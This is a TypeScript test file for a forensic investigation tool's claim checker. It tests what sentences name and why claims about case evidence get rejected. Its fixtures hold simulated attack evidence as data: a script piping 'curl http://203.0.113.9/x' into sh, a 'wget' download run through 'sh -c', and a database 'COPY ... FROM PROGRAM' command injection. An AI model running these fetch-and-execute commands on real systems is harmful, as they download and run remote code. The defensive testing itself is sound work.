// The linter and the checker: what a sentence names, and every way in which a claim is struck.
import { describe, expect, it } from 'vitest'
import type { Claim, Place } from '../../contract/verdict.ts'
import { kinds } from '../insights/kinds.ts'
import type { CaseView, ViewedEvent } from './case-view.ts'
import { checkClaim } from './check.ts'
import { namedIn } from './named.ts'

const us = (text: string): bigint => BigInt(Date.parse(text)) * 1000n
const bytes = Buffer.from('#!/bin/sh\ncurl http://203.0.113.9/x | sh\n')
const view: CaseView = {
  events: async (uids) =>
    new Map(
      (
        [
          {
            uid: 'a',
            from: us('2026-03-02T10:00:00Z'),
            to: us('2026-03-02T10:00:00Z') + 999_999n,
            values: { user_name: 'alice', src_ip: '203.0.113.9', action: 'AssumeRole' },
            exhibit: 'EX-001',
            member: 'EX-001/000001',
          },
          {
            uid: 'b',
            from: us('2026-03-02T10:00:05Z'),
            to: us('2026-03-02T10:00:05Z'),
            values: { user_name: 'alice' },
            exhibit: 'EX-001',
            member: 'EX-001/000001',
          },
          {
            uid: 'c',
            from: us('2026-03-02T10:00:00Z') + 500_000n,
            to: us('2026-03-02T10:00:00Z') + 500_000n,
            values: {},
            exhibit: 'EX-001',
            member: 'EX-001/000001',
          },
          {
            uid: 'f',
            from: us('2026-03-02T10:00:00Z') + 600_000n,
            to: us('2026-03-02T10:00:00Z') + 600_000n,
            values: { command: 'sh -c wget -q http://203.0.113.9/m' },
            exhibit: 'EX-001',
            member: 'EX-001/000001',
          },
          ...Array.from({ length: 30 }, (_, i) => ({ uid: `e${i}`, values: {}, exhibit: 'EX-001', member: 'm' })),
        ] as ViewedEvent[]
      )
        .filter(({ uid }) => uids.includes(uid))
        .map((one): [string, ViewedEvent] => [one.uid, one as unknown as ViewedEvent]),
    ),
  record: async (uid) => (uid === 'a' ? 'aws-cli COPY x FROM PROGRAM $$wget -q  http://203.0.113.9/m$$' : '{"userAgent":"aws-cli"}'),
  count: async ({ query }) => (query === 'user:alice' ? 3 : 0),
  detection: async (id) => (id === 'd' ? { id, ruleId: 'r', title: 'Key made', level: 'high', events: 2 } : null),
  detections: async () => 4,
  member: async (label) => (label === 'EX-002/000001' ? { path: 'tmp/x.sh', sha256: 'ab', size: bytes.length } : null),
  bytes: async ({ start, end }: Place) => bytes.subarray(start, end),
  insights: async () => [],
}
const claim = (text: string, more: Partial<Claim> = {}): Claim => ({
  id: 'c1',
  text,
  kind: 'fact',
  citations: [{ kind: 'event', id: 'a' }],
  predicates: [{ kind: 'exists', events: ['a'] }],
  ...more,
})
const place = { kind: 'artifact' as const, member: 'EX-002/000001', start: 10, end: 40, layers: [] }
const struck = async (one: Claim) => (await checkClaim(one, view)).struck

describe('what a sentence names', () => {
  it.each([
    ['It happened at 10:04.', 'time'],
    ['It happened on 2026-03-02.', 'time'],
    ['It happened on 14 November.', 'time'],
    ['It was last seen on Tuesday.', 'time'],
    ['There were 214 of them.', 'count'],
    ['There were twelve of them.', 'count'],
    ['The credential alice was used.', 'actor'],
    ['It was arn:aws:iam::1:user/eve.', 'actor'],
    ['It was AKIAIOSFODNN7EXAMPLE.', 'actor'],
    ['It went to 203.0.113.9.', 'address'],
    ['It went to 2001:db8::1.', 'address'],
    ['It went to evil.example.com.', 'address'],
    ['It went to http://evil/x.', 'address'],
    ['It lies in /tmp/.x.', 'file'],
    ['It is called run.sh.', 'file'],
    ['It came after the sign-in.', 'order'],
    ['It was the earliest sign.', 'order'],
    ['It says "hello".', 'quotation'],
    ['It says “hello”.', 'quotation'],
  ])('%s: %s', (text, kind) => {
    expect(namedIn(text).map((one) => one.kind)).toContain(kind)
  })
  it.each([
    'This reads as an attack on the database.',
    'Work remains a possible explanation.',
    'An administrator would hardly do so by hand.',
    'The evidence shows signs of Initial Access and Exfiltration.',
  ])('%s names nothing', (text) => {
    expect(namedIn(text)).toEqual([])
  })
  it('our own words for insights say no order and no count', () => {
    for (const [kind, { says }] of Object.entries(kinds)) expect(namedIn(says), kind).toEqual([])
  })
})

describe('checks', () => {
  it('lets stand what holds', async () => {
    expect(
      await struck(
        claim('The credential alice called AssumeRole from 203.0.113.9 at 2026-03-02T10:00:00Z.', {
          predicates: [{ kind: 'equal', event: 'a', column: 'user_name', value: 'alice' }],
        }),
      ),
    ).toBeNull()
    expect(
      await struck(
        claim('The case holds 3 events of alice.', { predicates: [{ kind: 'count', scope: { query: 'user:alice' }, op: '=', value: 3 }] }),
      ),
    ).toBeNull()
    expect(await struck(claim('One came before the other.', { predicates: [{ kind: 'order', events: ['a', 'b'] }] }))).toBeNull()
    // They overlap, but the record of the one asks for the command that the other ran.
    expect(await struck(claim('One came before the other.', { predicates: [{ kind: 'order', events: ['a', 'f', 'b'] }] }))).toBeNull()
    expect(
      await struck(
        claim('The script says "curl http://203.0.113.9/x | sh".', {
          citations: [{ ...place, quote: 'curl http' }],
          predicates: [{ kind: 'contains', in: { of: 'artifact', ...place }, text: '| sh' }],
        }),
      ),
    ).toBeNull()
    expect(await struck({ id: 'c', text: 'This reads as an attack.', kind: 'interpretation', citations: [], predicates: [] })).toBeNull()
  })
  it.each<[string, Claim, RegExp]>([
    ['a cited event that is not there', claim('X was seen.', { citations: [{ kind: 'event', id: 'z' }] }), /not in the case/],
    ['a cited detection that is not there', claim('X was seen.', { citations: [{ kind: 'detection', id: 'z' }] }), /not in the case/],
    ['a cited file that is not there', claim('X was seen.', { citations: [{ ...place, member: 'EX-009/000001' }] }), /not in the case/],
    ['a place beyond the bytes', claim('X was seen.', { citations: [{ ...place, start: 5000, end: 5010 }] }), /no bytes/],
    ['no citation', claim('X was seen.', { citations: [] }), /cite/],
    ['no query', claim('X was seen.', { predicates: [] }), /query/],
    [
      'more than twenty events',
      claim('X was seen.', { citations: Array.from({ length: 21 }, (_, i) => ({ kind: 'event', id: `e${i}` })) }),
      /21 events/,
    ],
    ['a quotation that is not there', claim('X was seen.', { citations: [{ ...place, quote: 'wget' }] }), /does not stand/],
    ['words quoted in the sentence that are nowhere', claim('It says "never said".'), /stand in nothing/],
    [
      'a count that is wrong',
      claim('There are 4 events.', { predicates: [{ kind: 'count', scope: { query: 'user:alice' }, op: '=', value: 4 }] }),
      /returns 3/,
    ],
    [
      'an order that is swapped',
      claim('One came before the other.', { predicates: [{ kind: 'order', events: ['b', 'a'] }] }),
      /does not hold/,
    ],
    [
      'an order of intervals that overlap',
      claim('One came before the other.', { predicates: [{ kind: 'order', events: ['a', 'c'] }] }),
      /not surely/,
    ],
    [
      'an order of events that overlap, the earlier of which asked for nothing',
      claim('One came before the other.', { predicates: [{ kind: 'order', events: ['f', 'a'] }] }),
      /not surely/,
    ],
    ['an order without its query', claim('It came after the other.'), /order/],
    [
      'a value that is another',
      claim('The credential bob acted.', { predicates: [{ kind: 'equal', event: 'a', column: 'user_name', value: 'bob' }] }),
      /alice/,
    ],
    [
      'a time that is another',
      claim('It happened at 2026-03-02T11:00:00Z.', {
        predicates: [{ kind: 'equal', event: 'a', column: 'time', value: '2026-03-02T11:00:00Z' }],
      }),
      /time/,
    ],
    ['an address that nothing holds', claim('It reached 192.0.2.80.'), /192\.0\.2\.80/],
    [
      'a detection of another name',
      claim('X.', { predicates: [{ kind: 'detection', id: 'd', field: 'title', value: 'Other' }] }),
      /Key made/,
    ],
    [
      'text that is not contained',
      claim('X.', { predicates: [{ kind: 'contains', in: { of: 'artifact', ...place }, text: 'wget' }] }),
      /does not stand/,
    ],
    [
      'an insight that is not found again',
      claim('X.', { predicates: [{ kind: 'insight', member: 'EX-002/000001', insight: 'x', is: 'miner' }] }),
      /no longer/,
    ],
    [
      'an interpretation that names a count',
      { id: 'c', text: 'There were 9 of them.', kind: 'interpretation', citations: [], predicates: [] },
      /names a count/,
    ],
    [
      'an interpretation that names an actor',
      { id: 'c', text: 'The user bob did it.', kind: 'interpretation', citations: [], predicates: [] },
      /names an actor/,
    ],
  ])('strikes %s', async (_, one, reason) => {
    expect(await struck(one)).toMatch(reason)
  })
})
